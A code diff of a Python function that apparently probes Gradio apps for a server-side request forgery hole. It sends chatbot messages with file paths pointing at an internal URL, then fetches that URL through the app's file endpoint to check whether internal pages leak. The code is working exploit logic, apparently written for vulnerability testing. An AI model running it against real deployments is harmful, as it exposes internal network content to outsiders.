@@ -196,15 +196,14 @@ def address(app: App, _: argparse.Namespace) -> dict[str, Any]:
     inside = http.server.ThreadingHTTPServer((PUBLIC, 0), Page)
     threading.Thread(target=inside.serve_forever, daemon=True).start()
     url = f"http://{PUBLIC}:{inside.server_port}/secret"
-    value = {"path": url, "meta": {"_type": "gradio.FileData"}}
-    chats = {part["id"] for part in app.config()["components"] if part["type"] == "chatbot"}
-    event = next(
-        each for each in app.config()["dependencies"] if chats & set(each["inputs"]) and each["backend_fn"]
-    )
-    message = [{"role": "user", "content": value}]
-    data = [message if part in chats else None for part in event["inputs"]]
-    for _i in range(40):
-        _event(app, event["id"], data)
+    config = app.config()
+    chats = {part["id"] for part in config["components"] if part["type"] == "chatbot"}
+    talking = [each for each in config["dependencies"] if chats & set(each["inputs"]) and each["backend_fn"]]
+    event = min(talking, key=lambda each: len(each["inputs"]))
+    for i in range(40):
+        value = {"path": f"{url}?{i}", "meta": {"_type": "gradio.FileData"}}
+        message = [{"role": "user", "content": value}]
+        _event(app, event["id"], [message if part in chats else None for part in event["inputs"]])
     shown = [app.ask("GET", f"/gradio_api/file={url}")[1] for _i in range(10)]
     inside.shutdown()
     return {"sent": 50, "through": len(downloads), "pages_read": sum(b"INTRANET" in each for each in shown)}
